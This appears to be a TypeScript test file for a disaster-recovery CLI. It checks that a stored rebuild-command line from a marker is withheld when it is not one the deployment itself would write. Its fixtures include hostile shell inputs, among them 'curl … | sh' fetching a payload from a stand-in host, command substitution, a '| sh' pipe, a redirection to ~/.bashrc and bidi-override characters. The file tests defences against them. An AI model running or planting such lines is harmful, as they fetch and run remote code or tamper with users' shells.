import { spawnSync } from 'node:child_process';
import { catalogRebuildCommandLine } from '../../../../lambdas/catalog/catalog-rebuild-command-line';
import { type MarkerReader, rebuildMarkerSchema } from '../../../../lambdas/catalog/catalog-rebuild-marker';
import { type MarkerOptions, withMarkerOptions } from '../../../../lambdas/catalog/catalog-rebuild-marker-options';
import { PointInTimeInRebuildGapError, rebuildGapAdvice } from '../../../../lambdas/catalog/point-in-time-in-rebuild-gap-error';
import { markerFinishLine } from '../../../../lambdas/catalog/rebuild-marker-finish-line';
import { catalogRebuildCommand } from '../../../../cli/commands/catalog-commands';
import { capturedCliIo } from '../../../support/captured-cli-io';
import { SAMPLE_CONFIG_FILE } from '../../../support/repo-root';

/**
 * The command a refused restore by point in time, failover or drill prints from the catalog's rebuild marker (review r58C
 * F6, r58J F1): a marker written by a function from 37fe8b09 until 02d495e6 holds the runbook input's free text, which
 * whoever could start the runbook chose, and is read back after the update. Shown only when it is a line the reading
 * deployment's own rebuild writes.
 */
const KEY = 'arn:aws:kms:us-east-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab';
/** The primary region's function of environment prod in AWS, and the DR region's; a local cloud's of dev. */
const PRIMARY: MarkerReader = { environment: 'prod', region: 'primary', aws: true, vaultKeyArn: KEY };
const DR: MarkerReader = { ...PRIMARY, region: 'dr' };
const LOCAL: MarkerReader = { environment: 'dev', region: 'primary', aws: false, vaultKeyArn: undefined };

/** A marker as `readBy` reads it (null: read without a reader). */
const stored = (finishWith: string, vault: 'primary' | 'dr' = 'primary', readBy: MarkerReader | null = PRIMARY) => ({
  ...rebuildMarkerSchema.parse({
    pk: 'REBUILD',
    sk: 'INCOMPLETE',
    reliableFrom: { startedAt: '2026-03-02T10:00:00.000Z', backupId: '20260302T100000Z-00000002' },
    vault,
    writtenAt: '2026-12-07T00:00:00.000Z',
    finishWith,
  }),
  ...(readBy !== null ? { readBy } : {}),
});

const withheld = (head: string) =>
  `${head} with the options that name this catalog (--region dr for the DR region's; --env; --aws, or --data-dir on a local cloud): ` +
  'the command the marker keeps is not shown, as it is not one a rebuild writes';
/** The primary function's generic line: it knows its own key, which the pasted line needs (review r58J F5). */
const WITHHELD = withheld(`lifeboat catalog rebuild --vault primary --vault-key ${KEY}`);

/** What the reader's own rebuild of `vault` writes with `options` (the function's builder, rebuild-catalog.ts). */
const written = (reader: MarkerReader, vault: 'primary' | 'dr', options: MarkerOptions = {}) =>
  withMarkerOptions(catalogRebuildCommandLine({ vault, region: reader.region, environment: reader.environment, aws: reader.aws }), options);

it('prints the generic line, not the text an older function stored from the runbook\'s input (a command, a line separator, bidi overrides)', () => {
  // What 37fe8b09's schema admitted (at most 1024 characters, starting 'lifeboat catalog rebuild ', no \p{Cc}).
  const hostile = 'lifeboat catalog rebuild --vault primary --env prod --aws; curl -s https://x.example/p | sh \u2028\u202Ehs|x lruc\u202C';
  const message = new PointInTimeInRebuildGapError('orders', '2026-01-01T00:00:00Z', stored(hostile), { backupId: '20260101T000000Z-00000001', startedAt: '2026-01-01T00:00:00Z' }).message;
  expect(message).toContain(`Finish the rebuild (from a machine, which has no time limit: ${WITHHELD}; the command without --runbook creates only what the catalog lacks)`);
  expect(message).not.toContain('curl');
  expect(message).not.toMatch(/[\u2028\u202E\u202C]/u);
});

it.each([
  ['an unquoted command separator', 'lifeboat catalog rebuild --vault primary --env prod --aws; id'],
  ['a command substitution', 'lifeboat catalog rebuild --vault primary --env $(id) --aws'],
  ['backticks', 'lifeboat catalog rebuild --vault primary --env `id` --aws'],
  ['a pipe', 'lifeboat catalog rebuild --vault primary --env prod --aws | sh'],
  ['a redirection', 'lifeboat catalog rebuild --vault primary --env prod --aws >~/.bashrc'],
  ['a line separator inside quotes', "lifeboat catalog rebuild --vault primary --env prod --aws --vault-key 'alias/a\u2028b'"],
  ['a zero-width space', 'lifeboat catalog rebuild --vault primary --env prod\u200B --aws'],
  ['an unclosed quote', "lifeboat catalog rebuild --vault primary --env prod --aws --vault-key 'alias/a"],
  ['another command', 'lifeboat failover --plan orders --env prod --aws'],
  ['the other vault', 'lifeboat catalog rebuild --vault dr --env prod --aws'],
  // Plain words only, which the shell-syntax rule showed (review r58J F1).
  ['another environment', 'lifeboat catalog rebuild --vault primary --env staging --aws'],
  ["another account's key", 'lifeboat catalog rebuild --vault primary --env prod --aws --vault-key arn:aws:kms:us-east-1:444455556666:key/1234abcd-12ab-34cd-56ef-1234567890ab'],
  ['another key of the account', 'lifeboat catalog rebuild --vault primary --env prod --aws --vault-key 99999999-12ab-34cd-56ef-1234567890ab'],
  ['--profile', 'lifeboat catalog rebuild --vault primary --env prod --aws --profile admin'],
  ['--config', 'lifeboat catalog rebuild --vault primary --env prod --aws --config /tmp/evil.json'],
  ['--runbook', 'lifeboat catalog rebuild --vault primary --env prod --aws --runbook'],
  ['--region primary, which no rebuild writes', 'lifeboat catalog rebuild --vault primary --region primary --env prod --aws'],
  ['--region dr in the primary region', 'lifeboat catalog rebuild --vault primary --region dr --env prod --aws'],
  ['a repeated flag', `lifeboat catalog rebuild --vault primary --env prod --aws --vault-key ${KEY} --vault-key ${KEY}`],
  ['a repeated --env', 'lifeboat catalog rebuild --vault primary --env prod --aws --env prod'],
  ['a flag without its value', 'lifeboat catalog rebuild --vault primary --env prod --aws --vault-key'],
  ['a data directory in AWS', 'lifeboat catalog rebuild --vault primary --env prod --aws --data-dir /srv/lifeboat'],
  ['no --aws in AWS', 'lifeboat catalog rebuild --vault primary --env prod'],
  ['the flags in another order', 'lifeboat catalog rebuild --vault primary --aws --env prod'],
  ['another command word', 'lifeboat catalog rebuilds --vault primary --env prod --aws'],
  ['another program', 'lifeboat-dev catalog rebuild --vault primary --env prod --aws'],
  ['two spaces', 'lifeboat catalog rebuild --vault primary  --env prod --aws'],
  ['a trailing space', 'lifeboat catalog rebuild --vault primary --env prod --aws '],
  ['a word quoted that needs no quotes', `lifeboat catalog rebuild --vault primary --env prod --aws --vault-key '${KEY}'`],
])('withholds a stored line with %s', (_what, finishWith) => {
  expect(rebuildGapAdvice(stored(finishWith))).toContain(`no time limit: ${WITHHELD};`);
});

it.each([
  ['a repeated --data-dir', "lifeboat catalog rebuild --vault primary --env dev --data-dir /srv/a --data-dir '/srv/b c'"],
  ['a relative --data-dir', 'lifeboat catalog rebuild --vault primary --env dev --data-dir srv/a'],
  ['a --vault-key on a local cloud', 'lifeboat catalog rebuild --vault primary --env dev --vault-key alias/lifeboat-dev-vault'],
  ['--aws on a local cloud', 'lifeboat catalog rebuild --vault primary --env dev --aws'],
  ['the options in another order', `lifeboat catalog rebuild --vault primary --env dev --vault-key ${KEY} --data-dir /srv/a`],
])('withholds a local cloud\'s stored line with %s', (_what, finishWith) => {
  expect(rebuildGapAdvice(stored(finishWith, 'primary', LOCAL))).toContain(`no time limit: ${withheld('lifeboat catalog rebuild --vault primary')};`);
});

it('withholds a key from the DR vault\'s line, and names none in its generic line (its rebuild never opens the primary vault)', () => {
  expect(markerFinishLine(stored(`lifeboat catalog rebuild --vault dr --region dr --env prod --aws --vault-key ${KEY}`, 'dr', DR))).toBe(withheld('lifeboat catalog rebuild --vault dr'));
  expect(markerFinishLine(stored('lifeboat catalog rebuild --vault dr --env prod --aws --vault-key alias/lifeboat-prod-vault', 'dr'))).toBe(withheld('lifeboat catalog rebuild --vault dr'));
});

it('withholds a primary vault\'s line read in the DR region: no rebuild writes it, the CLI refuses it (review r59E F4)', async () => {
  // Built as the DR reader's own rebuild would build it, were it allowed: every word fits but the pair.
  const line = written(DR, 'primary');
  expect(line).toBe('lifeboat catalog rebuild --vault primary --region dr --env prod --aws');
  const dr = { ...DR, vaultKeyArn: undefined };
  expect(markerFinishLine(stored(line, 'primary', dr))).toBe(OTHER_REGIONS_VAULT);
  expect(markerFinishLine(stored(written({ ...LOCAL, region: 'dr' }, 'primary', { dataDir: '/srv/dr' }), 'primary', { ...LOCAL, region: 'dr' }))).toBe(
    "the marker is of a rebuild from the primary vault, not this (DR) region's, whose catalog is rebuilt from the DR vault alone: in the primary region run lifeboat catalog rebuild --vault primary --env dev (and --data-dir of the local cloud); for this region's catalog, lifeboat catalog rebuild --vault dr --region dr --env dev (and --data-dir of the local cloud)",
  );
  // The CLI's own refusal of the pair, which the shown line would have met.
  const { io } = capturedCliIo();
  expect(await catalogRebuildCommand({ config: SAMPLE_CONFIG_FILE, env: 'prod', aws: true, dataDir: '/nonexistent', vault: 'primary', region: 'dr' }, { io })).toBe(2);
});

/**
 * Review r59J F5: for a marker of the primary vault read in the DR region the generic line said `--vault primary` with
 * "--region dr for the DR region's", a pair the CLI refuses (exit 2). It says the marker is not of this region's vault and
 * names a command each region takes.
 */
const OTHER_REGIONS_VAULT =
  "the marker is of a rebuild from the primary vault, not this (DR) region's, whose catalog is rebuilt from the DR vault alone: in the primary region run " +
  "lifeboat catalog rebuild --vault primary --env prod --aws (and --vault-key when the primary vault's key is not alias/lifeboat-prod-vault); for this region's catalog, " +
  'lifeboat catalog rebuild --vault dr --region dr --env prod --aws';

it('names what each region runs for a primary vault\'s marker read in the DR region, never the pair the CLI refuses (review r59J F5)', () => {
  for (const finishWith of ['x y', written(PRIMARY, 'primary'), 'lifeboat catalog rebuild --vault primary --env staging --aws']) {
    const advice = rebuildGapAdvice(stored(finishWith, 'primary', DR));
    expect(advice).toContain(`no time limit: ${OTHER_REGIONS_VAULT};`);
    expect(advice).not.toContain('--region dr for');
    expect(advice).not.toMatch(/--vault primary --region dr/u);
  }
  // The DR vault's marker read there, and the primary's read in the primary region, keep their lines.
  expect(markerFinishLine(stored(written(DR, 'dr'), 'dr', DR))).toBe(written(DR, 'dr'));
  expect(markerFinishLine(stored('x y', 'primary', PRIMARY))).toBe(WITHHELD);
});

it('shows no stored line of a marker read without its reader, and names a key only when the reader knows it', () => {
  const line = written(PRIMARY, 'primary');
  expect(markerFinishLine(stored(line, 'primary', null))).toBe(withheld('lifeboat catalog rebuild --vault primary'));
  expect(markerFinishLine(stored('lifeboat catalog rebuild --vault primary --env staging --aws', 'primary', { ...PRIMARY, vaultKeyArn: undefined }))).toBe(withheld('lifeboat catalog rebuild --vault primary'));
  // The key quoted as one shell word, as every other line quotes it.
  expect(markerFinishLine(stored('x y', 'primary', { ...PRIMARY, vaultKeyArn: 'alias/it is' }))).toBe(withheld("lifeboat catalog rebuild --vault primary --vault-key 'alias/it is'"));
});

it('shows every line the reader\'s own rebuild writes, with and without its options, as it is (the builder and the reading cannot drift)', () => {
  const dataDirs = ['/srv/lifeboat', '/srv/dr cloud', "/srv/dr cloud; $(id) `id` it's", "/tmp/''", '/home/zoë/données/☃ nuage', "/a'b/\\c/\"d\"/*?[x]/~/!$HOME"];
  const keys = [KEY, '1234ABCD-12AB-34CD-56EF-1234567890AB', 'alias/lifeboat-prod-vault', 'arn:aws:kms:us-east-1:111122223333:alias/lifeboat-prod-vault'];
  const lines: [string, 'primary' | 'dr', MarkerReader][] = [
    [written(PRIMARY, 'primary'), 'primary', PRIMARY],
    ...keys.map((vaultKey): [string, 'primary', MarkerReader] => [written(PRIMARY, 'primary', { vaultKey }), 'primary', PRIMARY]),
    [written(PRIMARY, 'dr'), 'dr', PRIMARY],
    [written(DR, 'dr'), 'dr', DR],
    [written(LOCAL, 'primary'), 'primary', LOCAL],
    [written(LOCAL, 'dr'), 'dr', LOCAL],
    ...dataDirs.map((dataDir): [string, 'primary', MarkerReader] => [written(LOCAL, 'primary', { dataDir }), 'primary', LOCAL]),
    ...dataDirs.map((dataDir): [string, 'dr', MarkerReader] => [written({ ...LOCAL, region: 'dr' }, 'dr', { dataDir }), 'dr', { ...LOCAL, region: 'dr' }]),
  ];
  expect(lines.map(([line]) => line)).toContain('lifeboat catalog rebuild --vault dr --region dr --env prod --aws');
  expect(lines.map(([line]) => line)).toContain("lifeboat catalog rebuild --vault primary --env dev --data-dir '/srv/dr cloud'");
  for (const [line, vault, reader] of lines) {
    expect(rebuildGapAdvice(stored(line, vault, reader))).toContain(`no time limit: ${line};`);
  }
  // The one it keeps reads back as the words it was made of.
  const dataDir = "/srv/dr cloud; $(id) `id` it's";
  const line = written(LOCAL, 'primary', { dataDir });
  expect(markerFinishLine(stored(line, 'primary', LOCAL))).toBe(line);
  expect(spawnSync('sh', ['-c', `printf '%s\\n' ${line}`], { encoding: 'utf8' }).stdout.split('\n').slice(-3, -1)).toEqual(['--data-dir', dataDir]);
});

it('prints the bare command of a marker that keeps no line', () => {
  const { finishWith: _none, ...marker } = stored('x');
  expect(markerFinishLine(marker)).toBe('lifeboat catalog rebuild --vault primary');
});
